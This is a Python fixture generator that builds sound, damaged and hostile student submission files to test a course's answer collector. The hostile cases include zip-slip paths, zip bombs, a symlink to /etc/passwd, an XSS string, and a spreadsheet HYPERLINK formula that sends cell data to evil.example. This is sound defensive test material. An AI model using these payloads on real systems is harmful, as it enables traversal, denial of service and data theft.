"""Make what a class hands in: sound files, damaged ones, and hostile ones, each with what should become of it."""

import io
import json
import os
import random
import re
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

from helpers import __version__, questions
from helpers.classroom import wording

LESSON = "02-terror"
START = datetime(2026, 11, 23, 9, 0, tzinfo=UTC)
MB = 1024 * 1024


def ids(kind: str) -> list[str]:
    """Return the ids of the lesson's questions of a kind."""
    return [name for name, entry in questions.bank(LESSON).items() if entry["kind"] == kind]


def value(entry: dict[str, Any], rng: random.Random) -> Any:
    """Return a sound answer to a question."""
    kind = entry["kind"]
    if kind == "choice":
        return sorted(rng.sample(range(len(entry["options"])), rng.randint(1, 2)))
    if kind == "estimate":
        return {"estimate": rng.randint(entry["minimum"], entry["maximum"]), "revealed": True}
    if kind == "order":
        return rng.sample(range(len(entry["items"])), len(entry["items"]))
    if kind in wording.EACH_GETS:
        pieces, labels = wording.EACH_GETS[kind]
        return {str(i): rng.randrange(len(entry[labels])) for i in range(len(entry[pieces]))}
    if kind == "judge":
        return {"position": rng.randrange(len(entry["positions"])), "reasons": prose(rng)}
    if kind == "document":
        return {name: prose(rng) for name in questions.ASPECTS}
    if kind == "essay":
        piece = {"number": 1, "title": prose(rng), "text": prose(rng), "source": prose(rng)}
        return {"parts": {part["id"]: prose(rng) for part in entry["parts"]}, "evidence": [piece]}
    return prose(rng)


def prose(rng: random.Random) -> str:
    """Return some words, not all of them ASCII."""
    return " ".join(
        rng.choices(["The", "record", "says", "ордер", "«1937»", "🙂", "because", "limits"], k=40)
    )


def answers(
    name: str, rng: random.Random | None = None, lesson: str = LESSON, **changes: Any
) -> dict[str, Any]:
    """Return a turn-in file's JSON for one student; `changes` replace its fields."""
    rng = rng or random.Random(name)
    saved = START + timedelta(seconds=rng.randrange(7200))
    given = {
        question_id: {
            "value": value(entry, rng),
            "edited_at": (saved - timedelta(seconds=rng.randrange(1, 3000))).isoformat(),
        }
        for question_id, entry in questions.bank(lesson).items()
    }
    return {
        "format": "stalin-purges-course/answers",
        "version": 1,
        "course_version": __version__,
        "lesson": lesson,
        "name": name,
        "saved_at": saved.isoformat(timespec="milliseconds"),
        "answers": given,
    } | changes


def as_json(given: dict[str, Any]) -> bytes:
    """Return the JSON as it stands beside a notebook."""
    return _text(given).encode()


def _text(given: dict[str, Any]) -> str:
    """Return JSON as a browser writes it: half a character, which UTF-8 has not, as an escape."""
    text = json.dumps(given, ensure_ascii=False)
    return re.sub("[\ud800-\udfff]", lambda half: f"\\u{ord(half[0]):04x}", text)


def as_page(given: dict[str, Any]) -> bytes:
    """Return the JSON in a turn-in page, escaped as the answer store does it."""
    text = _text(given)
    for sign in "<>&\u2028\u2029":
        text = text.replace(sign, f"\\u{ord(sign):04x}")
    return (
        f'<!doctype html><html lang="en"><head><meta charset="utf-8"><title>My work</title></head><body>'
        f'<h1>My work</h1><script type="application/json" id="course-answers">{text}</script></body></html>'
    ).encode()


def zipped(files: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    """Return a zip of files by name; names may be anything."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", compression) as archive:
        for name, content in files.items():
            archive.writestr(zipfile.ZipInfo(name), content, compression)
    return stream.getvalue()


def lying_bomb() -> bytes:
    """Return a zip whose one file unpacks to 64 MB, but claims to be small."""
    content = bytearray(zipped({"work.html": b"\0" * (64 * MB)}))
    for sign, at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        start = content.find(sign)
        content[start + at : start + at + 4] = struct.pack("<L", 1000)
    return bytes(content)


def matryoshka(depth: int) -> bytes:
    """Return zips inside each other, a sound file in the innermost."""
    content = zipped({"work.html": as_page(answers("Deep"))})
    for _ in range(depth):
        content = zipped({"inner.zip": content})
    return content


def crowd(count: int) -> bytes:
    """Return a zip that lists very many empty files."""
    return zipped({f"{i}.html": b"" for i in range(count)}, zipfile.ZIP_STORED)


def locked() -> bytes:
    """Return a zip whose file is marked as locked with a password."""
    content = bytearray(zipped({"work.html": as_page(answers("Locked"))}))
    for sign, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = content.find(sign)
        content[start + at] |= 1
    return bytes(content)


def linked_entry() -> bytes:
    """Return a zip with an entry that is a symbolic link."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        info = zipfile.ZipInfo("work.html")
        info.external_attr = 0o120777 << 16
        archive.writestr(info, "/etc/passwd")
    return stream.getvalue()


@dataclass
class Case:
    """One file of a class: where it lies, its bytes, what kind of case it is, and what must become of it."""

    name: str
    content: bytes
    what: str
    outcome: str
    kind: str = ""
    inner: str = ""  # the name of the file inside that the report must give

    @property
    def reported(self) -> str:
        """Return the name under which the report gives it."""
        return f"{self.name}/{self.inner}" if self.inner else self.name


@dataclass
class Class:
    """All files of a class."""

    cases: list[Case] = field(default_factory=list)

    def write(self, folder: Path) -> None:
        """Write all into a folder."""
        for case in self.cases:
            path = folder / case.name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(case.content)

    def zip(self, path: Path) -> None:
        """Write all into one zip, as a learning platform gives it."""
        path.write_bytes(zipped({case.name: case.content for case in self.cases}))


def moodle(number: int, name: str, file: str = f"{LESSON}.html") -> str:
    """Return the path under which Moodle gives a student's file."""
    return f"{name}_{10_000 + number}_assignsubmission_file_/{file}"


def sound(count: int, rng: random.Random) -> list[Case]:
    """Return sound files: pages, JSON files, and pages in a student's own zip."""
    cases = []
    for i in range(count):
        given = answers(f"Student {i:03}", rng)
        if i % 10 == 3:
            cases.append(
                Case(
                    moodle(i, f"Student {i:03}", f"{LESSON}.s.answers.json"),
                    as_json(given),
                    "sound JSON",
                    "collected",
                )
            )
        elif i % 10 == 7:
            inner = {"my work/02-terror.html": as_page(given), "__MACOSX/._02-terror.html": b"junk"}
            cases.append(
                Case(
                    moodle(i, f"Student {i:03}", "work.zip"),
                    zipped(inner),
                    "sound zip",
                    "collected",
                    inner="my work/02-terror.html",
                )
            )
        else:
            cases.append(Case(moodle(i, f"Student {i:03}"), as_page(given), "sound page", "collected"))
    return cases


DAMAGE: tuple[tuple[str, str, str, Callable[[bytes, bytes, random.Random], bytes]], ...] = (
    ("cut page", "work.html", "damaged", lambda page, _, rng: page[: rng.randrange(150, len(page) - 40)]),
    ("cut JSON", "w.answers.json", "damaged", lambda _, raw, rng: raw[: rng.randrange(1, len(raw))]),
    ("empty", "work.html", "damaged", lambda *_: b""),
    ("not UTF-8", "work.html", "damaged", lambda page, _, rng: page.replace(b"Student", b"Stud\xff\xfent")),
    ("cut zip", "work.zip", "damaged", lambda page, _, rng: zipped({"work.html": page})[:-30]),
    ("flipped bytes in zip", "work.zip", "damaged", lambda page, _, rng: flipped(zipped({"work.html": page}), rng)),
    ("no answers", "work.html", "damaged", lambda page, *_: page.replace(b'"answers"', b'"other"')),
    ("noise", "work.html", "not an answer file", lambda _page, _raw, rng: rng.randbytes(5000).replace(b"course-answers", b"")),
    ("two sets of answers", "work.html", "damaged", lambda page, *_: page + page),
    ("a number in place of answers", "w.answers.json", "damaged", lambda _, raw, rng: raw.replace(b'"answers": {', b'"answers": 7, "x": {')),
)  # fmt: skip


def flipped(content: bytes, rng: random.Random) -> bytes:
    """Return a zip whose compressed bytes are wrong."""
    changed = bytearray(content)
    for _ in range(8):
        changed[rng.randrange(60, len(content) // 2)] ^= 0xFF
    return bytes(changed)


def damaged(count: int, rng: random.Random) -> list[Case]:
    """Return damaged files of each kind in turn."""
    cases = []
    for i in range(count):
        what, file, kind, spoil = DAMAGE[i % len(DAMAGE)]
        given = answers(f"Student D{i:02}", rng)
        inner = "work.html" if what == "flipped bytes in zip" else ""
        content = spoil(as_page(given), as_json(given), rng)
        cases.append(Case(moodle(1000 + i, f"Damaged {i:02}", file), content, what, "not read", kind, inner))
    return cases


SCRIPT = "<script>document.body.innerHTML='taken'</script><img src=x onerror=alert(1)></p>\u2028&amp;"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def hostile(rng: random.Random) -> list[Case]:
    """Return twenty hostile files, one or two of each kind."""
    page, cases = as_page(answers("Mallory", rng)), []

    def add(
        what: str, file: str, content: bytes, outcome: str = "not read", kind: str = "", inner: str = ""
    ) -> None:
        name = moodle(2000 + len(cases), f"Hostile {len(cases):02}", file)
        cases.append(Case(name, content, what, outcome, kind, inner))

    add(
        "zip-slip",
        "a.zip",
        zipped({"../../../escaped.html": page}),
        kind="unsafe name",
        inner="../../../escaped.html",
    )
    add(
        "zip-slip",
        "b.zip",
        zipped({"/srv/escaped.html": page}),
        kind="unsafe name",
        inner="/srv/escaped.html",
    )
    add("zip-slip", "c.zip", zipped({"C:\\escaped.html": page}), kind="unsafe name", inner="C:\\escaped.html")
    add("bomb", "bomb.zip", zipped({"work.html": b"\0" * (64 * MB)}), kind="bomb", inner="work.html")
    add("bomb that lies", "lie.zip", lying_bomb(), inner="work.html", kind="damaged")
    bombs = zipped({f"{i}.html": rng.randbytes(30_000) * 260 for i in range(40)})
    add("bomb of many", "many.zip", bombs, kind="bomb")
    add("deep zips", "deep.zip", matryoshka(6), kind="too deep", inner="inner.zip/inner.zip/inner.zip")
    add("crowded zip", "crowd.zip", crowd(20_000), kind="too many entries")
    add("locked zip", "locked.zip", locked(), kind="password", inner="work.html")
    add("link in a zip", "link.zip", linked_entry(), kind="link", inner="work.html")
    add("deep JSON", "w.answers.json", b'{"format": ' + b"[" * 100_000, kind="too deep")
    add("huge page", "huge.html", page + rng.randbytes(9 * MB), kind="too large")
    add(
        "huge answers",
        "huge.answers.json",
        as_json(answers("H", rng) | {"pad": rng.randbytes(3 * MB).hex()}),
        kind="too large",
    )
    add(
        "huge number",
        "n.answers.json",
        as_json(answers("N", rng)).replace(b'"version": 1', b'"version": ' + b"9" * 5000),
        kind="damaged",
    )
    scripted = answers(SCRIPT, rng)
    scripted["answers"][ids("text")[0]]["value"] = SCRIPT + "\ud800 \x00 \x1b[31m"
    add("script in the text", "work.html", as_page(scripted), "collected")
    formula = answers(FORMULA, rng)
    for question_id, text in zip(ids("text"), (FORMULA, "+1+1", "\t@SUM(A1)", "-2"), strict=False):
        formula["answers"][question_id]["value"] = text
    add("formula cells", "work.html", as_page(formula), "collected")
    add("wrong lesson", "00.html", as_page(answers("W", rng, lesson="00-start-here")), kind="wrong lesson")
    add(
        "unknown lesson", "99.html", as_page(answers("U", rng) | {"lesson": "../../etc"}), kind="wrong lesson"
    )
    add("other version", "v2.html", as_page(answers("V", rng) | {"version": 2}), kind="other version")
    twice = answers("Twice", rng)
    older = twice | {"saved_at": (START - timedelta(days=1)).isoformat()}
    add("same student twice", "new.html", as_page(twice), "collected")
    cases.append(
        Case(
            cases[-1].name.replace("new.html", "old.html"),
            as_page(older),
            "same student twice",
            "superseded",
            "duplicate",
        )
    )
    return cases


def whole_class(count: int = 500, seed: int = 7) -> Class:
    """Return a class of `count` files: 50 damaged, 21 hostile (the twice-given work is two files), the rest sound."""
    rng = random.Random(seed)
    bad = [*damaged(50, rng), *hostile(rng)]
    return Class([*sound(count - len(bad), rng), *bad])


def can_link(folder: Path) -> bool:
    """Say whether this system lets us make symbolic links."""
    try:
        os.symlink("nowhere", folder / "probe")
    except OSError:
        return False
    (folder / "probe").unlink()
    return True
